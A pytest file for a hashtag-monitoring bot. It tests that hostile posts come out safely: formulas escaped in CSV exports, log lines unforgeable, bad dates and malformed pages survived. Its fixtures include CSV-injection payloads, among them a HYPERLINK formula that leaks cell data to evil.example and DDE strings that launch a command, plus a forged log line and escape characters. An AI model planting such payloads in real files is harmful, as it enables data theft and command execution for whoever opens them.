"""Strangers' posts built to hurt: formulas for the spreadsheet, impossible times for the store.

Each attack goes through the sandbox (`/_sandbox/audience` with `fields` writes what a hostile
client or server would) and the real SDKs, into a real ledger, and out through the real command
line.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.campaign.model import LoggingConfig
from bot.daemon.logs import setup_logging
from bot.ledger.deliveries import open_ledger
from bot.ledger.mentions import MentionRecord, MonitorStore
from bot.monitoring.mentionlog import stored_record
from tests.clock import START
from tests.test_monitor_sandbox import PLATFORMS, running

REPO = Path(__file__).parent.parent
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def mentions(folder: Path, *args: str, config: bool = True) -> subprocess.CompletedProcess[str]:
    """`python -m bot mentions` on the ledger the test's world writes (state.sqlite3)."""
    if config:
        (folder / "config.yaml").write_text(
            "database: sqlite:///state.sqlite3\nplatforms:\n  x: {enabled: false}\n"
        )
    return subprocess.run(
        [sys.executable, "-m", "bot", "--config", str(folder / "config.yaml"), "mentions", *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_formula_in_a_strangers_post_comes_out_of_mentions_csv_as_text(
    platform: str, tmp_path: Path
) -> None:
    with running(platform, tmp_path) as world:  # type: ignore[arg-type]
        world.poll()
        for formula in FORMULAS:
            author = "alice" if platform == "x" else "-evil"  # X usernames cannot start with '-'
            world.audience("hashtag", f"{formula} #NoTechForICE", author=author)
        assert len(world.poll()) == len(FORMULAS)
        result = mentions(tmp_path, "--csv")
    assert result.returncode == 0, result.stderr
    table = list(csv.reader(io.StringIO(result.stdout)))
    texts = [row[7] for row in table[1:]]
    assert [t.split(" #")[0] for t in texts] == ["'" + f for f in FORMULAS]
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    if platform != "x":
        assert {row[6][:2] for row in table[1:]} == {"'-"}


@pytest.mark.parametrize("platform", ["x", "bluesky", "mastodon"])
def test_a_post_dated_in_year_zero_fails_alone_and_the_stream_goes_on(
    platform: str, database_url: str, tmp_path: Path
) -> None:
    created = "createdAt" if platform == "bluesky" else "created_at"  # X: the tweet's, never read
    with running(platform, tmp_path, database=database_url) as world:  # type: ignore[arg-type]
        world.poll()
        world.audience("hashtag", "before #NoTechForICE")
        (bad,) = world.control(
            "audience",
            kind="hashtag",
            text="from the dawn of time #NoTechForICE",
            fields={created: "0001-01-01T00:00:00+14:00"},
        )["posts"]
        unreadable = {created: "yesterday"}
        world.control(
            "audience", kind="hashtag", text="a time nobody can read #NoTechForICE", fields=unreadable
        )
        world.audience("hashtag", "after #NoTechForICE")
        found = world.poll()
        assert sorted(s.post.text.split(" #")[0] for s in found) == [
            "a time nobody can read",
            "after",
            "before",
            "from the dawn of time",
        ]
        stored = {m.remote_id: m for m in MonitorStore(world.ledger.engine).list_mentions()}
        # The time it was seen: by the AppView (indexedAt) on Bluesky, by us on Mastodon.
        kept = stored[bad["id"]]
        assert kept.created_at is not None and START < kept.created_at <= kept.seen_at
        world.audience("hashtag", "the stream still flows #NoTechForICE")
        assert [s.post.text.split(" #")[0] for s in world.poll()] == ["the stream still flows"]


def test_a_post_the_database_cannot_hold_is_skipped_alone(database_url: str, tmp_path: Path) -> None:
    """PostgreSQL's text cannot hold a NUL: that post is skipped, its page stored, the stream goes
    on. SQLite keeps it whole."""
    with running("mastodon", tmp_path, database=database_url) as world:
        world.poll()
        world.audience("hashtag", "before #NoTechForICE")
        world.audience("hashtag", "a NUL \x00 in it #NoTechForICE")
        world.audience("hashtag", "after #NoTechForICE")
        found = [s.post.text.split(" #")[0] for s in world.poll()]
        on_postgres = database_url.startswith("postgresql")
        assert found == (["before", "after"] if on_postgres else ["before", "a NUL \x00 in it", "after"])
        assert world.monitor is not None and world.monitor.skipped == (1 if on_postgres else 0)
        world.audience("hashtag", "the stream still flows #NoTechForICE")
        assert [s.post.text.split(" #")[0] for s in world.poll()] == ["the stream still flows"]


def test_a_database_that_cannot_store_loses_no_post_and_blames_none(
    database_url: str, tmp_path: Path
) -> None:
    """The database away (here: its table gone for a while) is not the posts' fault: none is
    skipped, the cursor stays, and the next pass stores them."""
    with running("mastodon", tmp_path, database=database_url) as world:
        world.poll()
        world.audience("hashtag", "while away #NoTechForICE")
        with world.ledger.engine.begin() as conn:
            conn.exec_driver_sql("ALTER TABLE mentions RENAME TO mentions_away")
        assert world.poll() == []
        assert world.monitor is not None and world.monitor.skipped == 0
        with world.ledger.engine.begin() as conn:
            conn.exec_driver_sql("ALTER TABLE mentions_away RENAME TO mentions")
        assert [s.post.text.split(" #")[0] for s in world.poll()] == ["while away"]


def _mention(n: int, author: str, seen: datetime) -> MentionRecord:
    return MentionRecord(
        platform="bluesky",
        remote_id=f"at://did:plc:{author}/app.bsky.feed.post/{n}",
        kind="hashtag",
        account=None,
        url=f"https://bsky.app/profile/{author}/post/{n}",
        author=author,
        text=f"words of {author} #NoTechForICE",
        hashtags=("NoTechForICE",),
        in_reply_to=None,
        created_at=seen,
        seen_at=seen,
    )


def _log_line(n: int, author: str, seen: datetime) -> str:
    return json.dumps(stored_record(_mention(n, author, seen))) + "\n"


def test_retention_and_the_ignore_list_hold_with_no_daemon_running_and_no_new_mention(tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(
        "database: sqlite:///state/bot.sqlite3\n"
        "logging: {mentions_log: logs/mentions.jsonl}\n"
        'monitor: {retention_days: 30, ignore: ["@Opted_Out.test", "ÉLAN.test"]}\n'
        "platforms:\n  x: {enabled: false}\n"
    )
    now = datetime.now(UTC)
    old, recent = now - timedelta(days=35), now - timedelta(days=3)
    ledger = open_ledger(f"sqlite:///{tmp_path / 'state' / 'bot.sqlite3'}")
    MonitorStore(ledger.engine).record_mentions(
        [
            _mention(1, "alice.test", old),
            _mention(2, "opted_out.test", recent),
            _mention(3, "bob.test", recent),
            _mention(4, "Élan.test", recent),  # not ASCII: SQLite's lower() would miss it
        ]
    )
    ledger.close()
    logs = tmp_path / "logs"
    logs.mkdir()
    # The current file, whose only line is 35 days old: nothing new came since.
    (logs / "mentions.jsonl").write_text(_log_line(1, "alice.test", old))
    rotated = logs / f"mentions.jsonl.{recent.date().isoformat()}"
    rotated.write_text(_log_line(2, "opted_out.test", recent) + _log_line(3, "bob.test", recent))

    listed = mentions(tmp_path, "--json", config=False)
    assert listed.returncode == 0, listed.stderr
    assert [json.loads(line)["author"] for line in listed.stdout.splitlines()] == ["bob.test"]
    assert sorted(p.name for p in logs.glob("mentions.jsonl*") if p.suffix != ".lock") == [rotated.name]
    assert [json.loads(line)["author"] for line in rotated.read_text().splitlines()] == ["bob.test"]


def test_the_operational_log_never_holds_a_strangers_words(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with running("mastodon", tmp_path) as world:
        world.poll()
        world.audience("hashtag", "my private thoughts #NoTechForICE", author="carol")
        with caplog.at_level(logging.DEBUG, logger="bot"):
            (found,) = world.poll()
    lines = [r.getMessage() for r in caplog.records]
    assert f"hashtag mastodon {found.post.url}" in lines
    assert not any("private thoughts" in line or "carol" in line.split(" http")[0] for line in lines)


FAKE = "\n2026-12-01T00:00:00Z INFO posted x/main calls/fake https://evil.example"


def test_names_urls_and_separators_from_strangers_stay_on_their_own_line(tmp_path: Path) -> None:
    with running("mastodon", tmp_path) as world:
        world.poll()
        (plain,) = world.audience("hashtag", "first #NoTechForICE")
        account = dict(plain["raw"]["account"]) | {"acct": f"mallory{FAKE}\x1b[2J"}
        hostile = {"account": account, "url": f"https://example.social/@m/1{FAKE}\u2028\u202e"}
        world.control(
            "audience", kind="hashtag", text="a\u2028b\u2029c\x85d\u202e #NoTechForICE", fields=hostile
        )
        assert len(world.poll()) == 2
        text = mentions(tmp_path)
        as_json = mentions(tmp_path, "--json")
    assert text.returncode == 0 and as_json.returncode == 0, text.stderr + as_json.stderr
    lines = text.stdout.splitlines()  # splits on \n, \r, U+2028, U+2029, NEL and more
    assert len(lines) == 2, lines
    assert "INFO posted" in lines[1] and not any(ch in lines[1] for ch in "\x1b\u202e")
    records = [json.loads(line) for line in as_json.stdout.splitlines()]
    assert len(records) == 2
    assert records[1]["text"].startswith("a\u2028b\u2029c\x85d\u202e")  # the data itself is kept whole
    assert records[1]["url"].endswith("\u2028\u202e")


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_a_servers_message_cannot_forge_a_line_of_the_operational_log(fmt: str) -> None:
    out = io.StringIO()
    setup_logging(LoggingConfig(level="INFO", format=fmt), out)  # type: ignore[arg-type]
    try:
        logging.getLogger("bot.delivery").error("rejected x/main: %s", f"Bad request{FAKE}\u2028\u202eevil")
    finally:
        for handler in list(logging.getLogger("bot").handlers):
            logging.getLogger("bot").removeHandler(handler)
    (line,) = out.getvalue().splitlines()
    assert "INFO posted" in line and "\u202e" not in line


READS = {
    "x": "/2/tweets/search/recent",
    "bluesky": "/xrpc/app.bsky.feed.searchPosts",
    "mastodon": "/api/v1/timelines/tag/*",
}
BROKEN_PAGES = {
    "x": ['{"data": 7}', '{"data": [{"id": null}]', '{"data": [{"text": "no id"}], "meta": {}}'],
    "bluesky": ['{"posts": 7}', '{"posts": [{"uri": 5}]}', '{"posts": ['],
    "mastodon": ['{"id": 1}', '[{"id": null}]', "[7]"],
}


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_malformed_page_backs_the_stream_off_and_the_next_poll_reads_everything(
    platform: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with running(platform, tmp_path) as world:  # type: ignore[arg-type]
        world.poll()
        world.audience("hashtag", "seen despite the broken pages #NoTechForICE")
        with caplog.at_level(logging.WARNING, logger="bot"):
            for page in BROKEN_PAGES[platform]:
                world.fault(method="GET", path=READS[platform], body=page)
                world.poll(minutes=90)  # a back-off like a 5xx, never a crashed pass
        found = world.poll(minutes=90)
        assert [s.post.text.split(" #")[0] for s in found] == ["seen despite the broken pages"]
    assert not [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
    assert any("next poll in" in r.getMessage() for r in caplog.records)
